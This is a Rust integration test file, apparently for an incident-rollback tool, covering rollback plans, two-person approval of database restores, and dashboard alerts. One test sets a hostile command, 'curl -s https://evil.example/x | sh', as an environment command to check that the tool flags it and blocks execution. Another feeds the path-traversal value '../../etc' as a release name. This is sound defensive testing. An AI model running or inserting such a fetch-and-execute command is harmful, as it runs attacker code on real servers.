//! Rollback plans and the two-person approval of database restores (issue 4, §5.1).
use crate::helpers::*;
use app::backend::plans::{self, PlanChange, PlanInput};
use app::domain::plan::{ApprovalPolicy, PlanStatus, Verdict};
use app::viewer::SignedInUser;
use chrono::{Duration, Utc};
use reqwest::StatusCode;

pub const DB_BACKUP: &str = "db_backup_20251017_103000.sql.gz";
pub const PREVIOUS: &str = "2025-10-16_153012";
pub const OLDER: &str = "2025-10-15_091844";

/// The procedure's scenario on a real sandbox target, inventoried, with the v1.2.0 incident
/// decided for a rollback of type `kind`.
pub struct Scenario {
    pub app: TestApp,
    pub incident: i64,
    pub environment: uuid::Uuid,
    pub sandbox: tempfile::TempDir,
}

pub async fn scenario(kind: &str) -> Scenario {
    let app = spawn_app(test_database().await).await;
    server::demo::seed(&app.pool).await.unwrap();
    let sandbox = tempfile::tempdir().unwrap();
    server::demo::build_sandbox(sandbox.path()).unwrap();
    server::demo::seed_scenario(&app.pool, sandbox.path())
        .await
        .unwrap();
    let (incident, environment): (i64, uuid::Uuid) =
        sqlx::query_as("SELECT id, environment_id FROM incidents WHERE state = 'decided'")
            .fetch_one(&app.pool)
            .await
            .unwrap();
    sqlx::query("UPDATE incidents SET rollback_type = $2 WHERE id = $1")
        .bind(incident)
        .bind(kind)
        .execute(&app.pool)
        .await
        .unwrap();
    app::backend::inventory::refresh(&app.pool, environment)
        .await
        .unwrap()
        .unwrap()
        .unwrap();
    Scenario {
        app,
        incident,
        environment,
        sandbox,
    }
}

impl Scenario {
    pub async fn user(&self, email: &str) -> SignedInUser {
        let id: uuid::Uuid = sqlx::query_scalar("SELECT id FROM users WHERE email = $1")
            .bind(email)
            .fetch_one(&self.app.pool)
            .await
            .unwrap();
        app::backend::accounts::find(&self.app.pool, id)
            .await
            .unwrap()
            .unwrap()
            .signed_in()
    }

    pub async fn browser(&self, email: &str) -> Browser {
        let browser = Browser::new();
        let (to, _) = browser
            .sign_in(&self.app, email, server::demo::DEMO_PASSWORD)
            .await;
        assert_ne!(to, "/login", "{email} signs in");
        browser
    }

    pub fn plan_page(&self) -> String {
        format!("/incidents/{}/plan", self.incident)
    }

    pub async fn prepare(&self, by: &SignedInUser, target: &str) -> String {
        plans::save(
            &self.app.pool,
            by,
            self.incident,
            PlanChange::Prepare,
            &PlanInput {
                target_release: target.into(),
                backup: DB_BACKUP.into(),
                manual_steps: String::new(),
            },
        )
        .await
        .expect("plan prepared")
    }

    pub async fn revise(&self, by: &SignedInUser, target: &str) -> String {
        plans::save(
            &self.app.pool,
            by,
            self.incident,
            PlanChange::Revise,
            &PlanInput {
                target_release: target.into(),
                backup: DB_BACKUP.into(),
                manual_steps: String::new(),
            },
        )
        .await
        .expect("plan revised")
    }

    pub async fn review(
        &self,
        by: &SignedInUser,
        verdict: Verdict,
        seen: &str,
        at: chrono::DateTime<Utc>,
    ) -> Result<PlanStatus, String> {
        plans::review(
            &self.app.pool,
            ApprovalPolicy::default(),
            by,
            self.incident,
            verdict,
            seen,
            if verdict == Verdict::Rejected {
                "Pas la bonne sauvegarde."
            } else {
                ""
            },
            at,
        )
        .await
        .map_err(|e| format!("{e:?}"))
    }

    /// Queues the plan's execution, by `by`; returns the execution.
    pub async fn execute(&self, by: &SignedInUser) -> i64 {
        app::backend::executions::start(
            &self.app.pool,
            ApprovalPolicy::default(),
            by,
            self.incident,
            None,
            Utc::now(),
        )
        .await
        .expect("execution queued")
    }

    /// One pass of a runner over the queue.
    pub async fn run(&self) {
        server::runner::Runner::new(self.app.pool.clone(), std::time::Duration::from_secs(30))
            .tick()
            .await
            .unwrap();
    }

    pub async fn state(&self) -> String {
        sqlx::query_scalar("SELECT state FROM incidents WHERE id = $1")
            .bind(self.incident)
            .fetch_one(&self.app.pool)
            .await
            .unwrap()
    }
}

pub const CLAIRE: &str = "claire.dubois@taskflow.example"; // tech lead
pub const MARC: &str = "marc.lefevre@taskflow.example"; // project manager
pub const SOPHIE: &str = "sophie.martin@taskflow.example"; // sysadmin
pub const JULIEN: &str = "julien.moreau@taskflow.example"; // senior developer on call
pub const THOMAS: &str = "thomas.bernard@taskflow.example"; // developer
pub const PAUL: &str = "paul.roux@taskflow.example"; // viewer

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_database_plan_shows_its_defaults_steps_fingerprint_and_the_data_loss() {
    let s = scenario("application_database").await;
    let claire = s.browser(CLAIRE).await;
    let page = s.plan_page();

    // The form proposes the previous release and the backup before the v1.2.0 deployment.
    let (status, html) = claire.page(&s.app, &page).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        html.contains(&format!(
            r#"<option value="{PREVIOUS}" selected>{PREVIOUS} (proposée)</option>"#
        )),
        "{html}"
    );
    assert!(html.contains(DB_BACKUP), "{html}");
    assert!(
        !html.contains(r#"<option value="2025-10-17_104523""#),
        "the current release is not offered"
    );

    let (to, html) = claire
        .submit_and_follow(
            &s.app,
            &page,
            "/api/save_plan",
            &[
                ("incident_id", &s.incident.to_string()),
                ("change", "prepare"),
                ("target_release", PREVIOUS),
                ("backup", DB_BACKUP),
            ],
        )
        .await;
    assert_eq!(to, page);
    assert!(html.contains("Plan préparé."), "{html}");
    assert_eq!(s.state().await, "awaiting_approval");
    // The dry run: every step in order with its exact command, on the sandbox target.
    let root = s.sandbox.path().display().to_string();
    for expected in [
        "echo 'Application en maintenance. Retour prévu dans 15 minutes.' &gt; /var/www/taskflow/current/public/maintenance.html",
        "gzip -t /var/backups/taskflow/db_backup_20251017_103000.sql.gz",
        "gunzip -c /var/backups/taskflow/db_backup_20251017_103000.sql.gz | mariadb -h 127.0.0.1 -P 3306",
        "ln -s releases/2025-10-16_153012 /var/www/taskflow/current.rollback-desk-next &amp;&amp; mv -T",
        "rm /var/www/taskflow/current/public/maintenance.html",
        &root,
    ] {
        assert!(html.contains(expected), "{expected} in {html}");
    }
    let steps = html.matches("<pre><code>").count();
    assert_eq!(steps, 14, "the 14 steps of §5.2 around §4.2");
    let fingerprint: String = sqlx::query_scalar("SELECT fingerprint FROM plans")
        .fetch_one(&s.app.pool)
        .await
        .unwrap();
    assert!(html.contains(&fingerprint));
    // §5.1: the backup's time (Paris) and the span that will be lost.
    assert!(
        html.contains("perte de toutes les données créées ou modifiées depuis la sauvegarde du 17/10/2025 10:30"),
        "{html}"
    );
    assert!(html.contains("Période perdue à ce jour"));
    assert!(
        html.contains("En attente d&#x27;approbation : 0/2")
            || html.contains("En attente d'approbation : 0/2")
    );
    // The requester sees why there is no approve button for them.
    assert!(!html.contains(r#"id="approve""#));
    assert!(html.contains("Vous avez préparé ce plan"));

    // A revision with another release: a new fingerprint, revision 2.
    let (_, html) = claire
        .submit_and_follow(
            &s.app,
            &page,
            "/api/save_plan",
            &[
                ("incident_id", &s.incident.to_string()),
                ("change", "revise"),
                ("target_release", OLDER),
                ("backup", DB_BACKUP),
            ],
        )
        .await;
    assert!(html.contains("Plan modifié"), "{html}");
    let (revision, second): (i32, String) =
        sqlx::query_as("SELECT revision, fingerprint FROM plans")
            .fetch_one(&s.app.pool)
            .await
            .unwrap();
    assert_eq!(revision, 2);
    assert_ne!(second, fingerprint);

    // The same values again: nothing changed, said so.
    let (_, html) = claire
        .submit_and_follow(
            &s.app,
            &page,
            "/api/save_plan",
            &[
                ("incident_id", &s.incident.to_string()),
                ("change", "revise"),
                ("target_release", OLDER),
                ("backup", DB_BACKUP),
            ],
        )
        .await;
    assert!(
        html.contains("Rien n&#x27;a changé") || html.contains("Rien n'a changé"),
        "{html}"
    );

    // Bad input: an unknown release, a path, a backup taken after the deployment.
    std::fs::write(
        s.sandbox
            .path()
            .join("var/backups/taskflow/db_backup_20251017_120000.sql.gz"),
        b"late",
    )
    .unwrap();
    app::backend::inventory::refresh(&s.app.pool, s.environment)
        .await
        .unwrap()
        .unwrap()
        .unwrap();
    let (_, html) = claire
        .submit_and_follow(
            &s.app,
            &page,
            "/api/save_plan",
            &[
                ("incident_id", &s.incident.to_string()),
                ("change", "revise"),
                ("target_release", "../../etc"),
                ("backup", "db_backup_20251017_120000.sql.gz"),
            ],
        )
        .await;
    assert!(
        html.contains("Choisissez une release de l&#x27;inventaire")
            || html.contains("Choisissez une release de l'inventaire"),
        "{html}"
    );
    let unchanged: i32 = sqlx::query_scalar("SELECT revision FROM plans")
        .fetch_one(&s.app.pool)
        .await
        .unwrap();
    assert_eq!(unchanged, 2, "nothing half-written");
    // The defective release itself (or anything newer) is refused with a message.
    let (_, html) = claire
        .submit_and_follow(
            &s.app,
            &page,
            "/api/save_plan",
            &[
                ("incident_id", &s.incident.to_string()),
                ("change", "revise"),
                ("target_release", "2025-10-17_104523"),
                ("backup", DB_BACKUP),
            ],
        )
        .await;
    assert!(
        html.contains("pas plus ancienne que la release défectueuse"),
        "{html}"
    );
    // A backup taken after the defective deployment, picked by hand: accepted, with what
    // that means said on the plan.
    let (_, html) = claire
        .submit_and_follow(
            &s.app,
            &page,
            "/api/save_plan",
            &[
                ("incident_id", &s.incident.to_string()),
                ("change", "revise"),
                ("target_release", OLDER),
                ("backup", "db_backup_20251017_120000.sql.gz"),
            ],
        )
        .await;
    assert!(
        html.contains("Prise après le déploiement défectueux"),
        "{html}"
    );
    assert!(
        html.contains("Plus ancienne que la release proposée"),
        "{html}"
    );

    // Events: prepared, revised, and the move to awaiting_approval.
    let kinds: Vec<String> = sqlx::query_scalar(
        "SELECT kind FROM incident_events WHERE kind LIKE 'plan_%' OR details->>'to' = 'awaiting_approval' ORDER BY id",
    )
    .fetch_all(&s.app.pool)
    .await
    .unwrap();
    assert_eq!(
        kinds,
        [
            "plan_prepared",
            "state_changed",
            "plan_revised",
            "plan_revised"
        ]
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn without_a_backup_before_the_deployment_there_is_no_database_plan() {
    let s = scenario("application_database").await;
    for entry in std::fs::read_dir(s.sandbox.path().join("var/backups/taskflow")).unwrap() {
        std::fs::remove_file(entry.unwrap().path()).unwrap();
    }
    app::backend::inventory::refresh(&s.app.pool, s.environment)
        .await
        .unwrap()
        .unwrap()
        .unwrap();
    let claire = s.browser(CLAIRE).await;
    let (_, html) = claire.page(&s.app, &s.plan_page()).await;
    assert!(
        html.contains("Aucune sauvegarde n&#x27;a été prise avant le déploiement de v1.2.0")
            || html.contains("Aucune sauvegarde n'a été prise avant le déploiement de v1.2.0"),
        "{html}"
    );
    assert!(!html.contains("/api/save_plan"), "no form");
    // A forged post is refused with the same reason.
    let (_, html) = claire
        .submit_and_follow(
            &s.app,
            &s.plan_page(),
            "/api/save_plan",
            &[
                ("incident_id", &s.incident.to_string()),
                ("change", "prepare"),
                ("target_release", PREVIOUS),
                ("backup", DB_BACKUP),
            ],
        )
        .await;
    assert!(html.contains("prise avant le déploiement"), "{html}");
    let plans: i64 = sqlx::query_scalar("SELECT count(*) FROM plans")
        .fetch_one(&s.app.pool)
        .await
        .unwrap();
    assert_eq!(plans, 0);
    assert_eq!(s.state().await, "decided");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_approval_rules_each_one() {
    let s = scenario("application_database").await;
    let (claire, marc, sophie, julien, thomas, paul) = (
        s.user(CLAIRE).await,
        s.user(MARC).await,
        s.user(SOPHIE).await,
        s.user(JULIEN).await,
        s.user(THOMAS).await,
        s.user(PAUL).await,
    );
    // Only §2.2 roles prepare a plan.
    let refused = plans::save(
        &s.app.pool,
        &thomas,
        s.incident,
        PlanChange::Prepare,
        &PlanInput {
            target_release: PREVIOUS.into(),
            backup: DB_BACKUP.into(),
            manual_steps: String::new(),
        },
    )
    .await;
    assert!(
        format!("{refused:?}").contains("OnlyDecidersMay"),
        "{refused:?}"
    );

    let t0 = Utc::now();
    let f1 = s.prepare(&claire, PREVIOUS).await;
    let approve = Verdict::Approved;
    // The requester can't approve their own plan.
    let own = s.review(&claire, approve, &f1, t0).await;
    assert!(own.unwrap_err().contains("CannotApproveOwnPlan"));
    // A user without a §2.2 role, and a read-only account.
    let dev = s.review(&thomas, approve, &f1, t0).await;
    assert!(dev.unwrap_err().contains("OnlyDecidersMay"), "developer");
    let viewer = s.review(&paul, approve, &f1, t0).await;
    assert!(viewer.unwrap_err().contains("ReadOnlyAccount"), "viewer");
    // One approval of two; the same user twice counts once (refused).
    assert_eq!(
        s.review(&marc, approve, &f1, t0).await,
        Ok(PlanStatus::AwaitingApproval { have: 1, need: 2 })
    );
    let twice = s.review(&marc, approve, &f1, t0).await;
    assert!(twice.unwrap_err().contains("AlreadyReviewed"));
    // Expiry: 61 minutes later Marc's approval no longer counts.
    let later = t0 + Duration::minutes(61);
    assert_eq!(
        s.review(&sophie, approve, &f1, later).await,
        Ok(PlanStatus::AwaitingApproval { have: 1, need: 2 }),
        "Marc's approval expired"
    );
    // A revision voids the approvals given before.
    let f2 = s.revise(&claire, OLDER).await;
    assert_ne!(f1, f2);
    let stale = s.review(&julien, approve, &f1, later).await;
    assert!(stale.unwrap_err().contains("PlanChangedSinceRead"));
    assert_eq!(
        s.review(&julien, approve, &f2, later).await,
        Ok(PlanStatus::AwaitingApproval { have: 1, need: 2 }),
        "Sophie's approval was on the earlier version"
    );
    // One rejection blocks the plan; nobody can approve it any more.
    assert_eq!(
        s.review(&marc, Verdict::Rejected, &f2, later).await,
        Ok(PlanStatus::Rejected)
    );
    let blocked = s.review(&sophie, approve, &f2, later).await;
    assert!(blocked.unwrap_err().contains("PlanNotAwaiting"));
    // Revised again: two distinct approvers make it ready.
    let f3 = s.revise(&claire, PREVIOUS).await;
    let f3_time = later + Duration::minutes(1);
    s.review(&sophie, approve, &f3, f3_time).await.unwrap();
    assert_eq!(
        s.review(&marc, approve, &f3, f3_time).await,
        Ok(PlanStatus::Ready)
    );
    let ready: i64 =
        sqlx::query_scalar("SELECT count(*) FROM incident_events WHERE kind = 'plan_ready'")
            .fetch_one(&s.app.pool)
            .await
            .unwrap();
    assert_eq!(ready, 1);
    // Verdicts are history: never changed.
    let changed = sqlx::query("UPDATE plan_reviews SET verdict = 'approved'")
        .execute(&s.app.pool)
        .await;
    assert!(changed.is_err());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_application_plan_needs_no_second_person() {
    let s = scenario("application").await;
    let claire = s.user(CLAIRE).await;
    let marc = s.user(MARC).await;
    let fingerprint = s.prepare(&claire, PREVIOUS).await;
    assert_eq!(s.state().await, "decided");
    let plan = plans::load(
        &s.app.pool,
        ApprovalPolicy::default(),
        s.incident,
        Utc::now(),
    )
    .await
    .unwrap()
    .unwrap();
    assert_eq!(plan.status, PlanStatus::Ready);
    assert_eq!(plan.steps.len(), 7, "§4.2 steps 3 to 7");
    assert!(plan.backup_file.is_none());
    let review = s
        .review(&marc, Verdict::Approved, &fingerprint, Utc::now())
        .await;
    assert!(review.is_err(), "nothing to approve");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_approvals_never_make_a_plan_ready_with_fewer_than_two() {
    let s = scenario("application_database").await;
    let claire = s.user(CLAIRE).await;
    let approvers = [
        s.user(MARC).await,
        s.user(SOPHIE).await,
        s.user(JULIEN).await,
    ];
    let pool = s.app.pool.clone();
    let incident = s.incident;
    let mut fingerprint = s.prepare(&claire, PREVIOUS).await;
    for round in 0..8 {
        if round > 0 {
            // Each round on a new version of the plan (alternating releases).
            let target = if round % 2 == 1 { OLDER } else { PREVIOUS };
            fingerprint = s.revise(&claire, target).await;
        }
        // Round by round: only Marc (twice at once), or Marc and Sophie, or all three, at once.
        let who: Vec<&SignedInUser> = match round % 3 {
            0 => vec![&approvers[0], &approvers[0]],
            1 => vec![&approvers[0], &approvers[1], &approvers[1]],
            _ => vec![&approvers[0], &approvers[1], &approvers[2], &approvers[2]],
        };
        let now = Utc::now();
        let tasks: Vec<_> = who
            .into_iter()
            .map(|user| {
                let (pool, user, seen) = (pool.clone(), user.clone(), fingerprint.clone());
                tokio::spawn(async move {
                    plans::review(
                        &pool,
                        ApprovalPolicy::default(),
                        &user,
                        incident,
                        Verdict::Approved,
                        &seen,
                        "",
                        now,
                    )
                    .await
                })
            })
            .collect();
        let mut accepted = 0;
        for task in tasks {
            if task.await.unwrap().is_ok() {
                accepted += 1;
            }
        }
        let distinct: i64 = sqlx::query_scalar(
            "SELECT count(DISTINCT reviewer_id) FROM plan_reviews WHERE fingerprint = $1",
        )
        .bind(&fingerprint)
        .fetch_one(&pool)
        .await
        .unwrap();
        let rows: i64 =
            sqlx::query_scalar("SELECT count(*) FROM plan_reviews WHERE fingerprint = $1")
                .bind(&fingerprint)
                .fetch_one(&pool)
                .await
                .unwrap();
        assert_eq!(rows, distinct, "round {round}: nobody counted twice");
        assert_eq!(accepted, distinct, "round {round}");
        let status = plans::load(&pool, ApprovalPolicy::default(), incident, now)
            .await
            .unwrap()
            .unwrap()
            .status;
        let ready_events: i64 = sqlx::query_scalar(
            "SELECT count(*) FROM incident_events WHERE kind = 'plan_ready' AND details->>'fingerprint' = $1",
        )
        .bind(&fingerprint)
        .fetch_one(&pool)
        .await
        .unwrap();
        match round % 3 {
            0 => {
                assert_eq!(distinct, 1, "round {round}");
                assert_eq!(status, PlanStatus::AwaitingApproval { have: 1, need: 2 });
                assert_eq!(ready_events, 0);
            }
            _ => {
                // Two distinct approvals make it ready; a third comes too late and is refused.
                assert_eq!(distinct, 2, "round {round}");
                assert_eq!(status, PlanStatus::Ready);
                assert_eq!(ready_events, 1);
            }
        }
    }
}

/// Issue 15 §9: one person changing what runs on an environment (here a command into
/// `sh -c …`) blocks every execution on it until a second person confirms; the author
/// cannot confirm; both are recorded.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_change_of_commands_waits_for_a_second_person() {
    use app::domain::environment::{CommandLine, CommandName};
    let s = scenario("application").await;
    let admin = s.user("admin@taskflow.example").await;
    let claire = s.user(CLAIRE).await;
    let mut config = app::backend::environments::config(&s.app.pool, s.environment)
        .await
        .unwrap()
        .unwrap();
    config.commands.insert(
        CommandName::CacheClear,
        CommandLine::parse("sh -c 'curl -s https://evil.example/x | sh'").unwrap(),
    );
    let change = app::backend::environments::save(&s.app.pool, admin.id, s.environment, &config)
        .await
        .unwrap();
    assert_eq!(change.commands, ["cache_clear"]);
    assert!(change.outside.contains(&"sh".to_owned()), "{change:?}");

    // The plan made afterwards is not stale, yet nothing executes.
    s.prepare(&claire, PREVIOUS).await;
    let refused = app::backend::executions::start(
        &s.app.pool,
        app::domain::plan::ApprovalPolicy::default(),
        &claire,
        s.incident,
        None,
        chrono::Utc::now(),
    )
    .await
    .unwrap_err();
    assert!(
        format!("{refused:?}").contains("RunConfigUnconfirmed"),
        "{refused:?}"
    );
    let page = format!("/environments/{}", s.environment);
    let admin_browser = s.browser("admin@taskflow.example").await;
    let (_, html) = admin_browser.page(&s.app, &page).await;
    assert!(html.contains("id=\"run-config-pending\""), "{html}");
    assert!(html.contains("Modifié par Alex Admin"), "{html}");
    assert!(
        html.contains("<strong>Programmes hors de la liste admise : echo, sh</strong>"),
        "{html}"
    );
    assert!(
        !html.contains("id=\"confirm-run-config\""),
        "the author cannot confirm"
    );
    let (_, html) = admin_browser
        .submit_and_follow(
            &s.app,
            &page,
            "/api/confirm_run_config",
            &[("id", &s.environment.to_string())],
        )
        .await;
    assert!(
        html.contains("une deuxième personne doit la confirmer"),
        "{html}"
    );
    // A developer may not confirm either.
    let thomas = s.browser(THOMAS).await;
    let (_, html) = thomas.page(&s.app, &page).await;
    assert!(!html.contains("id=\"confirm-run-config\""), "{html}");

    // Claire (tech lead) confirms; the plan executes.
    let claire_browser = s.browser(CLAIRE).await;
    let (_, html) = claire_browser.page(&s.app, &page).await;
    assert!(
        html.contains("hors liste"),
        "the sh command is flagged: {html}"
    );
    let (_, html) = claire_browser
        .submit_and_follow(
            &s.app,
            &page,
            "/api/confirm_run_config",
            &[("id", &s.environment.to_string())],
        )
        .await;
    assert!(html.contains("Modification confirmée"), "{html}");
    assert!(!html.contains("id=\"run-config-pending\""), "{html}");
    let events: Vec<(String, Option<uuid::Uuid>)> = sqlx::query_as(
        "SELECT kind, actor_id FROM environment_events WHERE environment_id = $1 ORDER BY id",
    )
    .bind(s.environment)
    .fetch_all(&s.app.pool)
    .await
    .unwrap();
    assert_eq!(
        events,
        [
            ("run_config_changed".to_owned(), Some(admin.id)),
            ("run_config_confirmed".to_owned(), Some(claire.id))
        ]
    );
    app::backend::executions::start(
        &s.app.pool,
        app::domain::plan::ApprovalPolicy::default(),
        &claire,
        s.incident,
        None,
        chrono::Utc::now(),
    )
    .await
    .expect("confirmed: the plan executes");
}

/// Issue 16 §2: executing a database restore asks first, with JavaScript off and on the
/// server: the §5.1 warning ticked and the environment's name typed, the form after the steps
/// and the warning; a post without them (a forged one too) runs nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_database_restore_runs_only_once_confirmed() {
    let s = scenario("application_database").await;
    let claire = s.user(CLAIRE).await;
    let marc = s.user(MARC).await;
    let sophie = s.user(SOPHIE).await;
    let fingerprint = s.prepare(&claire, PREVIOUS).await;
    let now = chrono::Utc::now();
    s.review(&marc, Verdict::Approved, &fingerprint, now)
        .await
        .unwrap();
    s.review(&sophie, Verdict::Approved, &fingerprint, now)
        .await
        .unwrap();
    let browser = s.browser(CLAIRE).await;
    let page = s.plan_page();
    let (_, html) = browser.page(&s.app, &page).await;
    let warning = html.find("id=\"data-loss\"").expect("the §5.1 warning");
    let form = html.find("id=\"execute\"").expect("the Execute form");
    let last_step = html.rfind("<pre><code>").unwrap();
    assert!(
        warning < form && last_step < form,
        "the form comes after the steps and the warning"
    );
    assert!(html.contains("id=\"execute-read-warning\""), "{html}");
    assert!(
        html.contains("Tapez le nom de l&#x27;environnement pour confirmer : TaskFlow production")
            || html
                .contains("Tapez le nom de l'environnement pour confirmer : TaskFlow production"),
        "{html}"
    );

    let incident = s.incident.to_string();
    let post = |extra: Vec<(&'static str, &'static str)>| {
        let mut fields = vec![
            ("incident_id", incident.clone()),
            ("fingerprint", fingerprint.clone()),
        ];
        fields.extend(extra.into_iter().map(|(k, v)| (k, v.to_owned())));
        fields
    };
    for (extra, message) in [
        (vec![], "Cochez la case"),
        (vec![("read_warning", "yes")], "Tapez le nom exact"),
        (
            vec![
                ("read_warning", "yes"),
                ("environment_name", "TaskFlow staging"),
            ],
            "Tapez le nom exact",
        ),
        (
            vec![("environment_name", "TaskFlow production")],
            "Cochez la case",
        ),
    ] {
        let fields = post(extra);
        let refs: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let (to, html) = browser
            .submit_and_follow(&s.app, &page, "/api/execute_plan", &refs)
            .await;
        assert!(to.starts_with(&page), "{to}");
        assert!(html.contains(message), "{message}: {html}");
        assert_eq!(s.state().await, "awaiting_approval", "nothing runs");
    }
    let executions: i64 = sqlx::query_scalar("SELECT count(*) FROM executions")
        .fetch_one(&s.app.pool)
        .await
        .unwrap();
    assert_eq!(executions, 0);
    // A rejection without a reason is refused next to the comment field.
    let julien = s.browser(JULIEN).await;
    let (_, html) = julien
        .submit_and_follow(
            &s.app,
            &page,
            "/api/review_plan",
            &[
                ("incident_id", &incident),
                ("fingerprint", &fingerprint),
                ("verdict", "rejected"),
                ("comment", "  "),
            ],
        )
        .await;
    assert!(html.contains("Un rejet a besoin d"), "{html}");
    let rejections: i64 =
        sqlx::query_scalar("SELECT count(*) FROM plan_reviews WHERE verdict = 'rejected'")
            .fetch_one(&s.app.pool)
            .await
            .unwrap();
    assert_eq!(rejections, 0);
    // The typed name is kept after a refusal.
    let fields = post(vec![("environment_name", "taskflow production ")]);
    let refs: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let (_, html) = browser
        .submit_and_follow(&s.app, &page, "/api/execute_plan", &refs)
        .await;
    assert!(html.contains("value=\"taskflow production \""), "{html}");

    let fields = post(vec![
        ("read_warning", "yes"),
        ("environment_name", "taskflow production"),
    ]);
    let refs: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let (to, _) = browser
        .submit_and_follow(&s.app, &page, "/api/execute_plan", &refs)
        .await;
    assert_eq!(to, format!("/incidents/{}/execution", s.incident));
    assert_eq!(s.state().await, "executing");
}

/// Issue 16 §1: the dashboard starts with what needs someone now, most urgent first, each
/// line saying what is wrong and since when, linking to where it is handled.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_dashboard_starts_with_what_needs_attention() {
    let s = scenario("application").await;
    let claire = s.user(CLAIRE).await;
    s.prepare(&claire, PREVIOUS).await;
    s.execute(&claire).await;
    // The health check can't reach https://taskflow.app: step 7 fails.
    s.run().await;
    let insert = |title: &'static str, minutes_ago: i64| {
        let pool = s.app.pool.clone();
        let env = s.environment;
        async move {
            sqlx::query_scalar::<_, i64>(
                "INSERT INTO incidents (title, detected_at, severity, environment_id, created_by)
                 SELECT $1, now() - make_interval(mins => $2), 'urgent', $3, id FROM users LIMIT 1
                 RETURNING id",
            )
            .bind(title)
            .bind(minutes_ago as i32)
            .bind(env)
            .fetch_one(&pool)
            .await
            .unwrap()
        }
    };
    let overdue = insert("Paiements bloqués", 45).await;
    let soon = insert("Lenteurs", 25).await;
    let calm = insert("Coquille", 1).await;
    let closed = insert("Ancien", 200).await;
    sqlx::query(
        "INSERT INTO post_mortems (incident_id, created_at, due_at, content, saved_at)
         VALUES ($1, now() - interval '50 hours', now() - interval '2 hours', '{}', now())",
    )
    .bind(closed)
    .execute(&s.app.pool)
    .await
    .unwrap();
    sqlx::query("UPDATE incidents SET state = 'closed' WHERE id = $1")
        .bind(closed)
        .execute(&s.app.pool)
        .await
        .unwrap();

    let browser = s.browser(MARC).await;
    let (_, html) = browser.page(&s.app, "/").await;
    let start = html
        .find("id=\"attention\"")
        .expect("the attention section");
    assert!(
        start < html.find("id=\"open-incidents\"").unwrap(),
        "at the top"
    );
    let section = &html[start..];
    let section = &section[..section.find("</section>").unwrap()];
    let at = |needle: &str| {
        section
            .find(needle)
            .unwrap_or_else(|| panic!("{needle} in {section}"))
    };
    let failed = at(&format!("href=\"/incidents/{}/execution\"", s.incident));
    assert!(
        section.contains("Exécution échouée à l&#x27;étape 7")
            || section.contains("Exécution échouée à l'étape 7"),
        "{section}"
    );
    let late = at(&format!("href=\"/incidents/{overdue}\""));
    assert!(section.contains("Décision en retard"), "{section}");
    let due = at(&format!("href=\"/incidents/{soon}\""));
    assert!(section.contains("Décision due à"), "{section}");
    let pm = at(&format!("href=\"/incidents/{closed}/post-mortem\""));
    assert!(section.contains("Post-mortem en retard"), "{section}");
    assert!(
        failed < late && late < due && due < pm,
        "most urgent first: {section}"
    );
    assert!(
        !section.contains(&format!("href=\"/incidents/{calm}\"")),
        "nothing due yet"
    );
    assert!(section.contains("id=\"refresh-dashboard\""), "{section}");
    // Issue 16 §7: the environment's page (inventory, useful commands) one click away.
    let open = &html[html.find("id=\"open-incidents\"").unwrap()..];
    assert!(
        open.contains(&format!("href=\"/environments/{}\"", s.environment)),
        "{open}"
    );
}

/// Issue 16 §1, the other kinds: a plan waiting for my verdict, an approved plan not yet
/// executed, a monitoring check due now, my corrective action past its date — each linking to
/// where it is handled, and gone when it is.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_dashboard_lists_plans_checks_and_actions_that_wait() {
    let s = scenario("application_database").await;
    let claire = s.user(CLAIRE).await;
    let fingerprint = s.prepare(&claire, PREVIOUS).await;
    let attention = |html: String| {
        let start = html
            .find("id=\"attention\"")
            .expect("the attention section");
        let section = &html[start..];
        section[..section.find("</section>").unwrap()].to_owned()
    };
    let marc = s.browser(MARC).await;
    let (_, html) = marc.page(&s.app, "/").await;
    let section = attention(html);
    let plan_link = format!("href=\"/incidents/{}/plan#approvals\"", s.incident);
    assert!(section.contains("attention-approval-waiting"), "{section}");
    assert!(section.contains(&plan_link), "{section}");
    assert!(
        section.contains("Plan en attente de votre avis : Rollback applicatif + base de données"),
        "{section}"
    );
    // Claire prepared it: it does not wait for her verdict.
    let (_, html) = s.browser(CLAIRE).await.page(&s.app, "/").await;
    assert!(!attention(html).contains("attention-approval-waiting"));

    for who in [MARC, SOPHIE] {
        let user = s.user(who).await;
        s.review(&user, Verdict::Approved, &fingerprint, Utc::now())
            .await
            .unwrap();
    }
    // Monitoring: an incident whose check n° 2 fell due two minutes ago.
    let watched: i64 = sqlx::query_scalar(
        "INSERT INTO incidents (title, detected_at, severity, environment_id, created_by, state,
                                monitoring_started_at)
         SELECT 'Surveillance en cours', now() - interval '2 hours', 'urgent', $1, id,
                'monitoring', now() - interval '32 minutes' FROM users LIMIT 1
         RETURNING id",
    )
    .bind(s.environment)
    .fetch_one(&s.app.pool)
    .await
    .unwrap();
    sqlx::query(
        "INSERT INTO monitoring_checks (incident_id, slot, due_at)
         VALUES ($1, 1, now() - interval '17 minutes'), ($1, 2, now() - interval '2 minutes'),
                ($1, 3, now() + interval '13 minutes')",
    )
    .bind(watched)
    .execute(&s.app.pool)
    .await
    .unwrap();
    // A corrective action of Marc's, due yesterday, and one due next week.
    let marc_id = s.user(MARC).await.id;
    sqlx::query(
        "INSERT INTO post_mortems (incident_id, created_at, due_at, content, saved_at,
                                   finalized_at)
         VALUES ($1, now() - interval '9 days', now() - interval '7 days', '{}', now(), now())",
    )
    .bind(watched)
    .execute(&s.app.pool)
    .await
    .unwrap();
    sqlx::query(
        "INSERT INTO corrective_actions (incident_id, position, action, owner_id, due_on, status)
         VALUES ($1, 0, 'Ajouter un test de non-régression', $2, current_date - 1, 'to_do'),
                ($1, 1, 'Revoir la checklist', $2, current_date + 7, 'to_do')",
    )
    .bind(watched)
    .bind(marc_id)
    .execute(&s.app.pool)
    .await
    .unwrap();

